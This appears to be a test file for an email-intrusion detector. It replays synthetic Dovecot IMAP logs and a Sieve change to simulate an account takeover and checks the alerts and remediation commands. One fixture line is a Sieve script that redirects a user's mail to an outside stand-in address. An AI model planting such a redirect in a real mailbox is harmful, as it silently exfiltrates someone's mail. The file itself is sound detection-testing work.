import { describe, expect, it } from 'vitest';
import { dovecotLogFormat } from '../../connectors/imap/dovecot-log.js';
import { scriptObjects } from '../../connectors/imap/sieve-stream.js';
import type { VigieEvent } from '../../src/events.js';
import { diffScope } from '../../src/pipeline/snapshot-diff.js';
import { byRule, DAY, HOUR, iso, replay, T0 } from './persistence-helpers.js';

const ACCOUNT = 'branch-lyon@party.example';
const stamp = (ms: number) => iso(ms).replace('T', ' ').replace(/\.\d+Z$/, '');
let s = 0;
function session(ms: number, ip: string, bodyCount: number): string[] {
  const id = `Sess${String(++s).padStart(12, 'A')}`;
  return [
    `${stamp(ms)} imap-login: Info: Login: user=<${ACCOUNT}>, method=PLAIN, rip=${ip}, lip=192.0.2.1, mpid=${1000 + s}, TLS, session=<${id}>`,
    `${stamp(ms + 5 * 60_000)} imap(${ACCOUNT})<${1000 + s}><${id}>: Info: Disconnected: Logged out in=100 out=9000 deleted=0 expunged=0 trashed=0 hdr_count=0 hdr_bytes=0 body_count=${bodyCount} body_bytes=${bodyCount * 30000}`,
  ];
}

function readLog(lines: string[]): VigieEvent[] {
  const reader = dovecotLogFormat.reader('branch-imap');
  return [...lines.flatMap((l) => reader.line(l)), ...reader.flush()];
}

/** The Sieve snapshot after the intruder's change, diffed against an earlier, empty one: a `created` redirect. */
function sieveRedirect(ms: number): VigieEvent[] {
  const objects = scriptObjects('branch-imap', ACCOUNT, [{ name: 'roundcube', source: 'redirect "drop@mail.example.net";\n', conditions: [] } as never], iso(ms));
  return diffScope({ stream: 'sieve', scope: ACCOUNT, objects, previous: new Map(), first: false, observedAt: iso(ms) }).events;
}

describe('IMAP attack story: login from a new country, a Sieve redirect, then a full download', () => {
  const week = Array.from({ length: 8 }, (_, d) => session(T0 + d * DAY, '192.0.2.10', 5)).flat();
  const attack = T0 + 8 * DAY + 4 * HOUR;
  const events = [...readLog([...week, ...session(attack, '203.0.113.66', 2), ...session(attack + 6 * HOUR, '203.0.113.66', 3800)]), ...sieveRedirect(attack + HOUR)];
  const alerts = replay(events);

  it('raises the per-step alerts', () => {
    expect(byRule(alerts, 'login.new-country')).toHaveLength(1);
    expect(byRule(alerts, 'forwarding.sieve-redirect-external')[0]).toMatchObject({ severity: 'critical', account: ACCOUNT });
    expect(byRule(alerts, 'export.mailbox-download')[0]!.summary).toContain('3,800');
  });

  it('chains them into a takeover and an exfiltration, with Dovecot steps to undo them', () => {
    const takeover = byRule(alerts, 'incident.account-takeover');
    expect(takeover).toHaveLength(1);
    expect(takeover[0]!.remediation.join(' ')).toContain(`doveadm kick '${ACCOUNT}'`);
    expect(byRule(alerts, 'incident.exfiltration')).toHaveLength(1);
    const redirect = byRule(alerts, 'forwarding.sieve-redirect-external')[0]!;
    expect(redirect.remediation.join(' ')).toContain(`doveadm sieve deactivate -u '${ACCOUNT}' 'roundcube'`);
  });
});
